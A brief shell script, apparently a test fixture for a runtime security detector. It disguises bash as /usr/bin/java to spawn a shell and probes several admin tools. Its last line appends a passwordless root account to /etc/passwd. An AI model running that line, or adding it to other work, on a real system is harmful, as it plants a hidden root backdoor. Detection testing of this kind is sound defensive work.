#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# prepare: cp /bin/bash /usr/bin/java
/usr/bin/java -c '/bin/sh -c :; :'
apt-get --version > /dev/null
ld --version > /dev/null
su -c : root
useradd --help > /dev/null 2>&1
ssh -V 2> /dev/null
kubectl --help > /dev/null
echo 'x::0:0::/:/bin/sh' >> /etc/passwd
